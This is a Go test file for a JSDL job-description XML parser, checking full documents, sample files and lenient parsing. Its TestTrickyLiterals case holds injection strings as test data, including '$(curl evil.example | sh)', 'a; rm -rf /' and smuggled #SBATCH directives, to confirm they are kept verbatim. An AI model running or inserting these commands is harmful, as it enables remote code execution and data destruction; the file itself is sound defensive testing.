package jsdl

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
)

func TestParseFull(t *testing.T) {
	jd, err := ParseBytes(readTestdata(t, "full.jsdl"), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	want := &JobDefinition{
		ID: "job-full-1",
		JobDescription: JobDescription{
			JobIdentification: &JobIdentification{
				JobName:       "Full example",
				Description:   "Uses every JSDL 1.0 and POSIX element.",
				JobAnnotation: []string{"first annotation", "second annotation"},
				JobProject:    []string{"proj-a", "proj-b"},
			},
			Application: Application{
				ApplicationName:    "gnuplot",
				ApplicationVersion: "5.4",
				Description:        "Plot some data",
				POSIX: &POSIXApplication{
					Name:       "plotter",
					Executable: FileName{Path: "bin/gnuplot", FilesystemName: "APPS"},
					Argument: []Argument{
						{Value: "control.txt"},
						{Value: "extra.txt", FilesystemName: "SCRATCH"},
					},
					Input:            FileName{Path: "input.dat", FilesystemName: "SCRATCH"},
					Output:           FileName{Path: "output.txt"},
					Error:            FileName{Path: "error.txt"},
					WorkingDirectory: FileName{Path: "work", FilesystemName: "SCRATCH"},
					Environment: []Environment{
						{Name: "GNUPLOT_DRIVER_DIR", Value: "/usr/lib/gnuplot"},
						{Name: "DATA", Value: "data", FilesystemName: "SCRATCH"},
						{Name: "EMPTY", Value: ""},
					},
					WallTimeLimit:        u64(3600),
					FileSizeLimit:        u64(1073741824),
					CoreDumpLimit:        u64(0),
					DataSegmentLimit:     u64(32768),
					LockedMemoryLimit:    u64(8192),
					MemoryLimit:          u64(2097152),
					OpenDescriptorsLimit: u64(1024),
					PipeSizeLimit:        u64(512),
					StackSizeLimit:       u64(1048576),
					CPUTimeLimit:         u64(7200),
					ProcessCountLimit:    u64(8),
					VirtualMemoryLimit:   u64(4194304),
					ThreadCountLimit:     u64(16),
					UserName:             "alice",
					GroupName:            "users",
				},
			},
			Resources: &Resources{
				CandidateHosts: []string{"node1.example.org", "node2.example.org"},
				FileSystem: []FileSystem{
					{
						Name:           "SCRATCH",
						Description:    "Fast scratch space",
						MountPoint:     "/scratch",
						DiskSpace:      &RangeValue{LowerBoundedRange: []Bound{{Value: 1073741824}}},
						FileSystemType: FileSystemTemporary,
					},
					{Name: "APPS", MountPoint: "/opt/apps", FileSystemType: FileSystemNormal},
				},
				ExclusiveExecution: boolp(true),
				OperatingSystem:    &OperatingSystem{Type: OSLinux, Version: "5.14", Description: "Any recent Linux"},
				CPUArchitecture:    ArchX86_64,

				IndividualCPUSpeed:         &RangeValue{LowerBoundedRange: []Bound{{Value: 1073741824}}},
				IndividualCPUTime:          &RangeValue{UpperBoundedRange: []Bound{{Value: 3600}}},
				IndividualCPUCount:         &RangeValue{LowerBoundedRange: []Bound{{Value: 2, ExclusiveBound: true}}},
				IndividualNetworkBandwidth: &RangeValue{LowerBoundedRange: []Bound{{Value: 104857600}}},
				IndividualPhysicalMemory:   &RangeValue{LowerBoundedRange: []Bound{{Value: 2097152}}},
				IndividualVirtualMemory: &RangeValue{Range: []Range{{
					Lower: Bound{Value: 1048576},
					Upper: Bound{Value: 8388608, ExclusiveBound: true},
				}}},
				IndividualDiskSpace: &RangeValue{Exact: []Exact{{Value: 1048576, Epsilon: 1024}}},
				TotalCPUTime:        &RangeValue{UpperBoundedRange: []Bound{{Value: 36000}}},
				TotalCPUCount: &RangeValue{
					Exact: []Exact{{Value: 4}, {Value: 8}},
					Range: []Range{{Lower: Bound{Value: 16}, Upper: Bound{Value: 32}}},
				},
				TotalPhysicalMemory: &RangeValue{LowerBoundedRange: []Bound{{Value: 1e9}}},
				TotalVirtualMemory:  &RangeValue{LowerBoundedRange: []Bound{{Value: 2e9}}},
				TotalDiskSpace:      &RangeValue{LowerBoundedRange: []Bound{{Value: 10500}}},
				TotalResourceCount:  &RangeValue{Exact: []Exact{{Value: 2}}},
			},
			DataStaging: []DataStaging{
				{
					Name:                "stage-in",
					FileName:            "control.txt",
					FileSystemName:      "SCRATCH",
					CreationFlag:        CreationOverwrite,
					DeleteOnTermination: boolp(true),
					Source:              &DataLocation{URI: "http://data.example.org/control.txt"},
				},
				{
					FileName:            "output.txt",
					CreationFlag:        CreationDontOverwrite,
					DeleteOnTermination: boolp(false),
					Target:              &DataLocation{URI: "GSIFTP://gridftp.example.org/results/output.txt"},
				},
				{
					FileName:     "log.txt",
					CreationFlag: CreationAppend,
					Source:       &DataLocation{URI: "https://data.example.org/log.txt"},
					Target:       &DataLocation{URI: "http://archive.example.org/log.txt"},
				},
			},
		},
	}
	if !reflect.DeepEqual(jd, want) {
		t.Errorf("full.jsdl parsed as\n%+v\nwant\n%+v", jd, want)
		if !reflect.DeepEqual(jd.JobDescription.Resources, want.JobDescription.Resources) {
			t.Errorf("Resources differ:\n%+v\n%+v", *jd.JobDescription.Resources, *want.JobDescription.Resources)
		}
	}
	wantReq := []string{"arch=x86_64", "datastaging=gsiftp", "datastaging=http", "datastaging=https", "exclusive=true", "os=LINUX"}
	if got := jd.Requirements(); !reflect.DeepEqual(got, wantReq) {
		t.Errorf("Requirements() = %q, want %q", got, wantReq)
	}
}

// TestParseTestdata checks the salient parts of every accepted sample.
func TestParseTestdata(t *testing.T) {
	tests := []struct {
		file    string
		exe     string
		args    []string
		reqs    []string
		appName string
		check   func(t *testing.T, jd *JobDefinition)
	}{
		{file: "hello.jsdl", exe: "/bin/echo", args: []string{"hello"}, reqs: []string{}},
		{file: "default-namespace.jsdl", exe: "/bin/echo", args: []string{"hello"}, reqs: []string{"os=LINUX"}},
		{file: "odd-prefixes.jsdl", exe: "/bin/echo", args: []string{"hello"}, reqs: []string{"arch=arm"}},
		{
			file: "out-of-order.jsdl", exe: "/bin/echo", args: []string{"hello", "world"},
			reqs: []string{"datastaging=ftp"}, appName: "echo",
			check: func(t *testing.T, jd *JobDefinition) {
				a := jd.JobDescription.Application.POSIX
				want := []Environment{{Name: "B", Value: "2"}, {Name: "A", Value: "1"}}
				if !reflect.DeepEqual(a.Environment, want) {
					t.Errorf("Environment = %+v, want %+v", a.Environment, want)
				}
				if a.Output.Path != "out.txt" {
					t.Errorf("Output = %q", a.Output.Path)
				}
				r := jd.JobDescription.Resources
				if r.ExclusiveExecution == nil || *r.ExclusiveExecution {
					t.Errorf("ExclusiveExecution = %v, want false", r.ExclusiveExecution)
				}
				ds := jd.JobDescription.DataStaging[0]
				if ds.FileName != "in.dat" || ds.CreationFlag != CreationOverwrite || ds.Source.URI != "ftp://ftp.example.org/in.dat" {
					t.Errorf("DataStaging = %+v", ds)
				}
				ji := jd.JobDescription.JobIdentification
				if ji.JobName != "out of order" || !reflect.DeepEqual(ji.JobProject, []string{"p"}) {
					t.Errorf("JobIdentification = %+v", ji)
				}
			},
		},
		{
			file: "whitespace.jsdl", exe: "/bin/echo", args: []string{"hello", "two words"},
			reqs: []string{"exclusive=true", "os=LINUX"}, appName: "echo",
			check: func(t *testing.T, jd *JobDefinition) {
				a := jd.JobDescription.Application.POSIX
				if want := []Environment{{Name: "GREETING", Value: "hi there"}}; !reflect.DeepEqual(a.Environment, want) {
					t.Errorf("Environment = %+v, want %+v", a.Environment, want)
				}
				if a.WallTimeLimit == nil || *a.WallTimeLimit != 60 {
					t.Errorf("WallTimeLimit = %v", a.WallTimeLimit)
				}
				want := &RangeValue{LowerBoundedRange: []Bound{{Value: 4, ExclusiveBound: true}}}
				if got := jd.JobDescription.Resources.TotalCPUCount; !reflect.DeepEqual(got, want) {
					t.Errorf("TotalCPUCount = %+v, want %+v", got, want)
				}
			},
		},
		{
			file: "extensions.jsdl", exe: "/bin/echo", args: []string{"hello"}, reqs: []string{"datastaging=s3"},
			check: func(t *testing.T, jd *JobDefinition) {
				want := &RangeValue{Exact: []Exact{{Value: 1}}}
				if got := jd.JobDescription.Resources.TotalCPUCount; !reflect.DeepEqual(got, want) {
					t.Errorf("TotalCPUCount = %+v, want %+v", got, want)
				}
				if n := len(jd.JobDescription.DataStaging); n != 1 {
					t.Errorf("%d DataStaging, want 1", n)
				}
			},
		},
		{file: "comments.jsdl", exe: "/bin/echo", args: []string{"hello", "<not markup> & stuff"}, reqs: []string{}},
		{
			file: "hpcpa.jsdl", exe: "/bin/sleep", args: []string{"60"}, reqs: []string{},
			check: func(t *testing.T, jd *JobDefinition) {
				want := &HPCProfileApplication{
					Name:             "sleeper",
					Executable:       FileName{Path: "/bin/sleep"},
					Argument:         []Argument{{Value: "60"}},
					Output:           FileName{Path: "sleep.out"},
					Error:            FileName{Path: "sleep.err"},
					WorkingDirectory: FileName{Path: "/home/bob"},
					Environment:      []Environment{{Name: "PATH", Value: "/bin:/usr/bin"}},
					UserName:         "bob",
				}
				app := jd.JobDescription.Application
				if !reflect.DeepEqual(app.HPCProfile, want) || app.POSIX != nil || app.SPMD != nil {
					t.Errorf("Application = %+v, HPCProfile = %+v", app, app.HPCProfile)
				}
			},
		},
		{
			file: "spmd.jsdl", exe: "/opt/app/bin/solver", args: []string{"--grid", "512"},
			reqs: []string{"spmd=http://www.ogf.org/jsdl/2007/02/jsdl-spmd/MPI"},
			check: func(t *testing.T, jd *JobDefinition) {
				want := &SPMDApplication{
					POSIXApplication: POSIXApplication{
						Executable:    FileName{Path: "/opt/app/bin/solver"},
						Argument:      []Argument{{Value: "--grid"}, {Value: "512"}},
						Output:        FileName{Path: "solver.out"},
						Environment:   []Environment{{Name: "OMP_NUM_THREADS", Value: "4"}},
						WallTimeLimit: u64(86400),
					},
					NumberOfProcesses: &NumberOfProcesses{Value: 32, ActualTotalCPUCount: true},
					ProcessesPerHost:  u64(8),
					ThreadsPerProcess: &ThreadsPerProcess{Value: 4},
					SPMDVariation:     "http://www.ogf.org/jsdl/2007/02/jsdl-spmd/MPI",
				}
				if got := jd.JobDescription.Application.SPMD; !reflect.DeepEqual(got, want) {
					t.Errorf("SPMD = %+v, want %+v", got, want)
				}
			},
		},
		{
			file: "application-name.jsdl", reqs: []string{"application=gromacs", "arch=x86_64", "os=Solaris"}, appName: "gromacs",
			check: func(t *testing.T, jd *JobDefinition) {
				if v := jd.JobDescription.Application.ApplicationVersion; v != "2023.3" {
					t.Errorf("ApplicationVersion = %q", v)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			jd, err := ParseBytes(readTestdata(t, tt.file), DefaultLimits())
			if err != nil {
				t.Fatal(err)
			}
			exe, args := jd.Executable()
			if exe != tt.exe || !reflect.DeepEqual(args, tt.args) {
				t.Errorf("Executable() = %q, %q; want %q, %q", exe, args, tt.exe, tt.args)
			}
			if got := jd.Requirements(); !reflect.DeepEqual(got, tt.reqs) {
				t.Errorf("Requirements() = %q, want %q", got, tt.reqs)
			}
			if got := jd.JobDescription.Application.ApplicationName; got != tt.appName {
				t.Errorf("ApplicationName = %q, want %q", got, tt.appName)
			}
			if tt.check != nil {
				tt.check(t, jd)
			}
			// Parse (streaming) and ParseBytes agree.
			jd2, err := Parse(bytes.NewReader(readTestdata(t, tt.file)), Limits{})
			if err != nil || !reflect.DeepEqual(jd, jd2) {
				t.Errorf("Parse and ParseBytes disagree: %v", err)
			}
		})
	}
}

// TestTrickyLiterals checks that shell and scheduler metacharacters are kept
// byte for byte, neither interpreted nor escaped.
func TestTrickyLiterals(t *testing.T) {
	jd, err := ParseBytes(readTestdata(t, "tricky-literals.jsdl"), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	wantArgs := []string{
		"$(touch /tmp/x)",
		"`touch /tmp/y`",
		"a; rm -rf /",
		"true && false || true",
		`'single' "double" \"escaped\"`,
		"line1\n#SBATCH --wrap=x\nline3",
		"#SBATCH --wrap=x",
		"#$ -N x",
		"#PBS -l walltime=99:00:00",
		"héllo wörld ✓ 日本語 🚀",
		"<tag attr=\"v\">\ttab\rcr",
		"",
		"--opt=$((1+1)) > /dev/null 2>&1 &",
		`\n literal backslash-n, %s %n %%`,
	}
	exe, args := jd.Executable()
	if want := `/bin/echo "quoted" && $HOME`; exe != want {
		t.Errorf("Executable = %q, want %q", exe, want)
	}
	if len(args) != len(wantArgs) {
		t.Fatalf("got %d args %q, want %d", len(args), args, len(wantArgs))
	}
	for i := range wantArgs {
		if args[i] != wantArgs[i] {
			t.Errorf("Argument[%d] = %q, want %q", i+1, args[i], wantArgs[i])
		}
	}
	a := jd.JobDescription.Application.POSIX
	wantEnv := []Environment{
		{Name: "EVIL", Value: "$(curl evil.example | sh)"},
		{Name: "MULTI", Value: "a\nb"},
	}
	if !reflect.DeepEqual(a.Environment, wantEnv) {
		t.Errorf("Environment = %q, want %q", a.Environment, wantEnv)
	}
	if want := "out; rm -rf ~"; a.Output.Path != want {
		t.Errorf("Output = %q, want %q", a.Output.Path, want)
	}
	if want := "$(reboot); `id` #SBATCH --wrap=x"; jd.JobDescription.JobIdentification.JobName != want {
		t.Errorf("JobName = %q, want %q", jd.JobDescription.JobIdentification.JobName, want)
	}

	// Each literal also survives on its own, via an XML-escaped argument.
	for _, lit := range wantArgs {
		var esc bytes.Buffer
		for _, r := range lit {
			switch r {
			case '<':
				esc.WriteString("&lt;")
			case '&':
				esc.WriteString("&amp;")
			case '\r':
				esc.WriteString("&#13;")
			case '\t':
				esc.WriteString("&#9;")
			default:
				esc.WriteRune(r)
			}
		}
		jd := mustParse(t, posixDoc(`<jsdl-posix:Executable>x</jsdl-posix:Executable><jsdl-posix:Argument>`+esc.String()+`</jsdl-posix:Argument>`))
		if _, args := jd.Executable(); len(args) != 1 || args[0] != lit {
			t.Errorf("round trip of %q gave %q", lit, args)
		}
	}
}

func TestParseLenient(t *testing.T) {
	tests := []struct {
		name  string
		doc   string
		check func(t *testing.T, jd *JobDefinition)
	}{
		{
			name: "byte order mark",
			doc:  "\xef\xbb\xbf<?xml version=\"1.0\"?>" + posixDoc(`<jsdl-posix:Executable>/bin/true</jsdl-posix:Executable>`),
		},
		{
			name: "latin-1 encoding",
			doc: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" +
				posixDoc("<jsdl-posix:Executable>/bin/echo</jsdl-posix:Executable><jsdl-posix:Argument>caf\xe9</jsdl-posix:Argument>"),
			check: func(t *testing.T, jd *JobDefinition) {
				if _, args := jd.Executable(); len(args) != 1 || args[0] != "café" {
					t.Errorf("args = %q, want [café]", args)
				}
			},
		},
		{
			name: "enumerations in other letter case",
			doc: resDoc(`<jsdl:OperatingSystem><jsdl:OperatingSystemType><jsdl:OperatingSystemName>linux</jsdl:OperatingSystemName></jsdl:OperatingSystemType></jsdl:OperatingSystem>` +
				`<jsdl:CPUArchitecture><jsdl:CPUArchitectureName>X86_64</jsdl:CPUArchitectureName></jsdl:CPUArchitecture>`),
			check: func(t *testing.T, jd *JobDefinition) {
				if got, want := jd.Requirements(), []string{"arch=x86_64", "os=LINUX"}; !reflect.DeepEqual(got, want) {
					t.Errorf("Requirements() = %q, want %q", got, want)
				}
			},
		},
		{
			name: "FileSystemName spelling and creation flag case",
			doc:  stageDoc(`<jsdl:FileName>f</jsdl:FileName><jsdl:FileSystemName>HOME</jsdl:FileSystemName><jsdl:CreationFlag>DONTOVERWRITE</jsdl:CreationFlag>`),
			check: func(t *testing.T, jd *JobDefinition) {
				ds := jd.JobDescription.DataStaging[0]
				if ds.FileSystemName != "HOME" || ds.CreationFlag != CreationDontOverwrite {
					t.Errorf("DataStaging = %+v", ds)
				}
			},
		},
		{
			name: "SPMD core fields in the spmd namespace",
			doc: appDoc(`<jsdl-spmd:SPMDApplication><jsdl-spmd:Executable>/bin/mpi</jsdl-spmd:Executable>` +
				`<jsdl-spmd:Argument>a</jsdl-spmd:Argument><jsdl-posix:Argument>b</jsdl-posix:Argument>` +
				`<jsdl-spmd:SPMDVariation>http://www.ogf.org/jsdl/2007/02/jsdl-spmd/OpenMPI</jsdl-spmd:SPMDVariation></jsdl-spmd:SPMDApplication>`),
			check: func(t *testing.T, jd *JobDefinition) {
				if exe, args := jd.Executable(); exe != "/bin/mpi" || !reflect.DeepEqual(args, []string{"a", "b"}) {
					t.Errorf("Executable() = %q, %q", exe, args)
				}
			},
		},
		{
			name: "prefix redeclared in nested scope",
			doc: `<a:JobDefinition xmlns:a="http://schemas.ggf.org/jsdl/2005/11/jsdl"><a:JobDescription><a:Application>` +
				`<a:POSIXApplication xmlns:a="http://schemas.ggf.org/jsdl/2005/11/jsdl-posix"><a:Executable>/x</a:Executable></a:POSIXApplication>` +
				`<a:ApplicationName>n</a:ApplicationName></a:Application></a:JobDescription></a:JobDefinition>`,
			check: func(t *testing.T, jd *JobDefinition) {
				if exe, _ := jd.Executable(); exe != "/x" || jd.JobDescription.Application.ApplicationName != "n" {
					t.Errorf("got %+v", jd.JobDescription.Application)
				}
			},
		},
		{
			name: "foreign attributes and xml:lang",
			doc: `<jsdl:JobDefinition` + nsDecls + ` xml:lang="en" ext:x="1"><jsdl:JobDescription ext:y="2">` + helloApp +
				`</jsdl:JobDescription></jsdl:JobDefinition>`,
		},
		{
			name: "empty argument and environment value kept",
			doc: posixDoc(`<jsdl-posix:Executable>/bin/env</jsdl-posix:Executable><jsdl-posix:Argument/>` +
				`<jsdl-posix:Environment name="E"/>`),
			check: func(t *testing.T, jd *JobDefinition) {
				a := jd.JobDescription.Application.POSIX
				if len(a.Argument) != 1 || a.Argument[0].Value != "" || len(a.Environment) != 1 || a.Environment[0] != (Environment{Name: "E"}) {
					t.Errorf("got %+v", a)
				}
			},
		},
		{
			name: "negative zero and plus sign",
			doc:  resDoc(`<jsdl:TotalCPUCount><jsdl:LowerBoundedRange>-0</jsdl:LowerBoundedRange><jsdl:Exact epsilon="+.5">+1.</jsdl:Exact></jsdl:TotalCPUCount>`),
			check: func(t *testing.T, jd *JobDefinition) {
				want := &RangeValue{LowerBoundedRange: []Bound{{Value: 0}}, Exact: []Exact{{Value: 1, Epsilon: 0.5}}}
				if got := jd.JobDescription.Resources.TotalCPUCount; !reflect.DeepEqual(got, want) {
					t.Errorf("got %+v, want %+v", got, want)
				}
			},
		},
		{
			name: "application name without application element",
			doc:  appDoc(`<jsdl:ApplicationName>blast</jsdl:ApplicationName>`),
			check: func(t *testing.T, jd *JobDefinition) {
				if got := jd.Requirements(); !reflect.DeepEqual(got, []string{"application=blast"}) {
					t.Errorf("Requirements() = %q", got)
				}
			},
		},
		{
			name: "POSIX without executable but with application name",
			doc:  appDoc(`<jsdl:ApplicationName>blast</jsdl:ApplicationName><jsdl-posix:POSIXApplication><jsdl-posix:Argument>-x</jsdl-posix:Argument></jsdl-posix:POSIXApplication>`),
			check: func(t *testing.T, jd *JobDefinition) {
				if exe, args := jd.Executable(); exe != "" || args != nil {
					t.Errorf("Executable() = %q, %q", exe, args)
				}
			},
		},
		{
			name: "id attribute that is not an NCName",
			doc:  `<jsdl:JobDefinition` + nsDecls + ` id=" 0b6f2c1e-uuid "><jsdl:JobDescription>` + helloApp + `</jsdl:JobDescription></jsdl:JobDefinition>`,
			check: func(t *testing.T, jd *JobDefinition) {
				if jd.ID != "0b6f2c1e-uuid" {
					t.Errorf("ID = %q", jd.ID)
				}
			},
		},
		{
			name: "value exactly MaxTextBytes",
			doc:  posixDoc(`<jsdl-posix:Executable>` + strings.Repeat("x", 64<<10) + `</jsdl-posix:Executable>`),
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			jd := mustParse(t, tt.doc)
			if tt.check != nil {
				tt.check(t, jd)
			}
		})
	}
}
